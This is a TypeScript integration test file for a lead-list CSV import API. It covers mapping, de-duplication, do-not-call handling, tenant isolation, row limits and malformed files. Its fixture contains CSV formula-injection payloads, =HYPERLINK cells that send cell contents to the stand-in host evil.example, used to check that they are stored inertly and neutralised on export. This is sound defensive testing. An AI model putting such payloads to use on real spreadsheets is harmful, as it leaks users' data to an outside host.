/**
 * Lead-list import through the public API: mapping, normalisation, de-duplication, do-not-call numbers,
 * time zones, the validation report and rejected.csv; and the attacks (another tenant's list, a member,
 * formula injection, too many rows, a malformed file), each refused with nothing written.
 */
import { parsePhoneNumberFromString } from 'libphonenumber-js/max';
import { timezones } from 'libphonenumber-geo-carrier';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { zoneOfNumber } from '../../server/campaigns/lists/time-zone.ts';
import { startTestApp, type TestApp } from '../../testkit/app.ts';
import { ownDatabase } from '../../testkit/own-database.ts';
import { call } from '../../testkit/http.ts';
import { austinNumbers, getJson, listsBusiness, memberOf, uploadCsv } from '../../testkit/lead-lists.ts';

let app: TestApp;
// Its own database: the platform list and SMS opt-outs written here hold for every business in it.
let own: Awaited<ReturnType<typeof ownDatabase>>;
beforeAll(async () => {
  own = await ownDatabase('lists_import');
  app = await startTestApp({ env: { LEAD_LIST_MAX_ROWS: '1000', DATABASE_URL: own.url } });
});
afterAll(async () => {
  await app?.close();
  await own?.drop();
});

const counts = async (businessId: string) => ({
  lists: await app.ctx.db.leadList.count({ where: { businessId } }),
  contacts: await app.ctx.db.listContact.count({ where: { businessId } }),
});

const CSV = [
  'Full name,Mobile,E-mail,Firm,Remarks,Budget',
  'Dana Whitfield,(512) 555-0142,Dana@Example.com,Rooter Co,"Call after 5, not before",5000',
  'Sam Ortiz,+1 212 555 0100,sam@example.com,,,',
  'Dup of Dana,512.555.0142,,,,',
  'No phone,,x@example.com,,,',
  'Bad phone,12345,,,,',
  'Bad mail,(512) 555-0143,not-an-email,,,',
  'Premium,+1 900 555 0100,,,,',
  'Blocked here,(512) 555-0144,,,,',
  'Blocked everywhere,(512) 555-0145,,,,',
  'Texted stop,(512) 555-0146,,,,',
  '"=HYPERLINK(""http://evil.example/?x=""&A1;""Click"")",(512) 555-0147,,,,',
  '"=HYPERLINK(""http://evil.example"")",bad,,,,',
  `${'x'.repeat(201)},(512) 555-0148,,,,`,
  'Short row,(512) 555-0149',
  'Toronto,+1 416 555 0100,,,,',
].join('\r\n');
const MAP = {
  phoneColumn: 'Mobile',
  nameColumn: 'Full name',
  emailColumn: 'E-mail',
  companyColumn: 'Firm',
  notesColumn: 'Remarks',
  customColumn: 'Budget',
};

describe('importing a lead list', { timeout: 60_000 }, () => {
  it('maps, normalises, de-duplicates, refuses do-not-call numbers and reports every refused row', async () => {
    const { owner, businessId } = await listsBusiness(app);
    const db = app.ctx.db;
    await db.doNotCall.create({ data: { businessId, phone: '+15125550144', source: 'manual' } });
    await db.doNotCall.create({ data: { businessId: null, phone: '+15125550145', source: 'platform' } });
    await db.smsOptOut.upsert({ where: { phone: '+15125550146' }, create: { phone: '+15125550146' }, update: {} });

    const r = await uploadCsv(app, owner.accessToken, businessId, CSV, MAP);
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    expect(r.body).toMatchObject({ rowCount: 15, acceptedCount: 4, duplicateCount: 1, rejectedCount: 10 });
    expect(r.body.rejected.map((x: { row: number; reason: string }) => [x.row, x.reason])).toEqual([
      [4, 'duplicate'],
      [5, 'missing_phone'],
      [6, 'bad_phone'],
      [7, 'invalid_email'],
      [8, 'not_dialable'],
      [9, 'do_not_call'],
      [10, 'do_not_call'],
      [11, 'do_not_call'],
      [13, 'bad_phone'],
      [14, 'too_long'],
      [15, 'wrong_column_count'],
    ]);

    const contacts = await getJson(
      app,
      owner.accessToken,
      `/api/v1/businesses/${businessId}/lead-lists/${r.body.id}/contacts`,
    );
    expect(contacts.status).toBe(200);
    const [dana, sam, formula, toronto] = contacts.body.items;
    expect(dana).toMatchObject({
      row: 2,
      phone: '+15125550142',
      name: 'Dana Whitfield',
      email: 'dana@example.com',
      company: 'Rooter Co',
      notes: 'Call after 5, not before',
      fields: { Budget: '5000' },
      timeZone: 'America/Chicago',
    });
    expect(sam).toMatchObject({ row: 3, phone: '+12125550100', timeZone: 'America/New_York', company: null });
    // A formula is data: stored exactly as written, never evaluated or altered.
    expect(formula).toMatchObject({ row: 12, name: '=HYPERLINK("http://evil.example/?x="&A1;"Click")' });
    expect(toronto).toMatchObject({ phone: '+14165550100', timeZone: 'America/Toronto' });
    const stored = await db.listContact.findMany({ where: { listId: r.body.id } });
    expect(stored.every((c) => c.consentBasis === 'express')).toBe(true);

    const again = await getJson(app, owner.accessToken, `/api/v1/businesses/${businessId}/lead-lists/${r.body.id}`);
    expect(again.body.rejected).toEqual(r.body.rejected);
    const audit = await db.auditLog.findFirst({ where: { businessId, action: 'lead_list.imported' } });
    expect(audit?.meta).toMatchObject({ rows: 15, accepted: 4 });

    // rejected.csv: the rows as uploaded, under their header; formula-like cells made inert with a quote.
    const csv = await fetch(`${app.url}/api/v1/businesses/${businessId}/lead-lists/${r.body.id}/rejected.csv`, {
      headers: { authorization: `Bearer ${owner.accessToken}` },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    const text = (await csv.text()).replace(/^\uFEFF/, '');
    const lines = text.trim().split('\n');
    expect(lines[0]).toBe('row,reason,detail,Full name,Mobile,E-mail,Firm,Remarks,Budget');
    expect(lines).toHaveLength(12);
    const formulaLine = lines.find((l) => l.startsWith('13,'))!;
    expect(formulaLine).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
    expect(lines.some((l) => /(^|,)=/.test(l))).toBe(false);
  });

  it('time zones: one per number, null when the number spans several, as the library says', async () => {
    for (const n of ['+15125550142', '+12125550100', '+447700900123', '+61291234567', '+18005550100', '+13065550100']) {
      const zones = await timezones(parsePhoneNumberFromString(n)!);
      expect(await zoneOfNumber(n), n).toBe(zones?.length === 1 ? zones[0] : null);
    }
    expect(await zoneOfNumber('+447700900123')).toBeNull();
  });

  it('previews the header and first rows, with a guess at the mapping', async () => {
    const { owner, businessId } = await listsBusiness(app);
    const half = CSV.slice(0, 400); // the console sends the start of the file: a row may be cut
    const res = await fetch(`${app.url}/api/v1/businesses/${businessId}/lead-lists/preview`, {
      method: 'POST',
      headers: { authorization: `Bearer ${owner.accessToken}`, 'content-type': 'text/csv' },
      body: half,
    });
    const body = await res.json();
    expect(res.status, JSON.stringify(body)).toBe(200);
    expect(body.headers).toEqual(['Full name', 'Mobile', 'E-mail', 'Firm', 'Remarks', 'Budget']);
    expect(body.rows[0][1]).toBe('(512) 555-0142');
    expect(body.suggested).toMatchObject({
      phoneColumn: 'Mobile',
      emailColumn: 'E-mail',
      nameColumn: 'Full name',
      companyColumn: 'Firm',
      notesColumn: 'Remarks',
    });
    expect(await counts(businessId)).toEqual({ lists: 0, contacts: 0 });
  });
});

describe('attacks on the import', { timeout: 120_000 }, () => {
  it("another tenant's list id is 404 on every route, and nothing of it is read or changed", async () => {
    const victim = await listsBusiness(app);
    const list = await uploadCsv(app, victim.owner.accessToken, victim.businessId, CSV, MAP);
    const attacker = await listsBusiness(app);
    const base = `/api/v1/businesses/${attacker.businessId}/lead-lists/${list.body.id}`;
    for (const [method, path] of [
      ['GET', base],
      ['GET', `${base}/contacts`],
      ['GET', `${base}/rejected.csv`],
      ['DELETE', base],
    ] as const) {
      const r = await call(app.url, method, path, { token: attacker.owner.accessToken });
      expect(r.status, `${method} ${path}`).toBe(404);
      expect(JSON.stringify(r.body)).not.toContain('Whitfield');
    }
    // Naming the victim's business outright is 404 too (not a member).
    const direct = await getJson(
      app,
      attacker.owner.accessToken,
      `/api/v1/businesses/${victim.businessId}/lead-lists/${list.body.id}`,
    );
    expect(direct.status).toBe(404);
    const up = await uploadCsv(app, attacker.owner.accessToken, victim.businessId, CSV, MAP);
    expect(up.status).toBe(404);
    // Its own do-not-call row is the victim's alone; the platform list and SMS STOP hold for every business.
    expect(await counts(victim.businessId)).toEqual({ lists: 1, contacts: 5 });
  });

  it('a member may not import or read lists (owners and admins only)', async () => {
    const { businessId } = await listsBusiness(app);
    const member = await memberOf(app, businessId);
    const r = await uploadCsv(app, member.accessToken, businessId, CSV, MAP);
    expect(r.status).toBe(403);
    expect(r.headers.get('content-type')).toContain('application/problem+json');
    expect((await getJson(app, member.accessToken, `/api/v1/businesses/${businessId}/lead-lists`)).status).toBe(403);
    expect(await counts(businessId)).toEqual({ lists: 0, contacts: 0 });
  });

  it('one row over the limit is 413, and nothing is written', async () => {
    const { owner, businessId } = await listsBusiness(app);
    const rows = austinNumbers(1001).map((p, i) => `Person ${i},${p}`);
    // Sent in small chunks as a stream, as a browser sends a big file.
    const lines = ['Name,Phone', ...rows];
    const stream = new ReadableStream<Uint8Array>({
      start(c) {
        for (let i = 0; i < lines.length; i += 50)
          c.enqueue(new TextEncoder().encode(`${lines.slice(i, i + 50).join('\n')}\n`));
        c.close();
      },
    });
    const r = await uploadCsv(app, owner.accessToken, businessId, stream, { nameColumn: 'Name' });
    expect(r.status, JSON.stringify(r.body)).toBe(413);
    expect(r.body).toMatchObject({ status: 413, maxRows: 1000 });
    expect(await counts(businessId)).toEqual({ lists: 0, contacts: 0 });
    expect(await app.ctx.db.auditLog.count({ where: { businessId, action: 'lead_list.imported' } })).toBe(0);

    // Exactly the limit is fine.
    const ok = await uploadCsv(app, owner.accessToken, businessId, ['Name,Phone', ...rows.slice(0, 1000)].join('\n'), {
      nameColumn: 'Name',
    });
    expect(ok.status).toBe(201);
    expect(ok.body).toMatchObject({ rowCount: 1000, acceptedCount: 1000 });
    // Contacts page by row number (keyset): every one once, in file order.
    const rowsSeen: number[] = [];
    let cursor: string | null = '';
    while (cursor !== null) {
      const page = await getJson(
        app,
        owner.accessToken,
        `/api/v1/businesses/${businessId}/lead-lists/${ok.body.id}/contacts?limit=100${cursor ? `&cursor=${cursor}` : ''}`,
      );
      rowsSeen.push(...page.body.items.map((i: { row: number }) => i.row));
      cursor = page.body.next;
    }
    expect(rowsSeen).toEqual(Array.from({ length: 1000 }, (_, i) => i + 2));
  });

  it('a malformed file is 400 problem+json naming the line; a failure late in the file leaves nothing', async () => {
    const { owner, businessId } = await listsBusiness(app);
    const good = austinNumbers(600).map((p, i) => `Person ${i},${p}`);
    const csv = ['Name,Phone', ...good, 'Broken,"(512) 555-0199', 'After,(512) 555-0198'].join('\n');
    const r = await uploadCsv(app, owner.accessToken, businessId, csv, { nameColumn: 'Name' });
    expect(r.status).toBe(400);
    expect(r.headers.get('content-type')).toContain('application/problem+json');
    expect(r.body.detail).toMatch(/line 60\d/);
    expect(typeof r.body.line).toBe('number');
    expect(await counts(businessId)).toEqual({ lists: 0, contacts: 0 });

    const notUtf8 = await uploadCsv(
      app,
      owner.accessToken,
      businessId,
      new Uint8Array([0x50, 0x68, 0x6f, 0x6e, 0x65, 0x0a, 0xc3, 0x28, 0x0a]),
    );
    expect(notUtf8.status).toBe(400);
    expect(notUtf8.body.detail).toContain('UTF-8');
    const missingColumn = await uploadCsv(app, owner.accessToken, businessId, 'Name,Tel\nA,(512) 555-0142');
    expect(missingColumn.status).toBe(422);
    expect(missingColumn.body.detail).toContain('"Phone"');
    const json = await uploadCsv(app, owner.accessToken, businessId, '{"a":1}', {}, 'application/json');
    expect(json.status).toBe(415);
    const badQuery = await uploadCsv(app, owner.accessToken, businessId, CSV, { ...MAP, consentBasis: 'whatever' });
    expect(badQuery.status).toBe(422);
    expect(await counts(businessId)).toEqual({ lists: 0, contacts: 0 });
  });
});
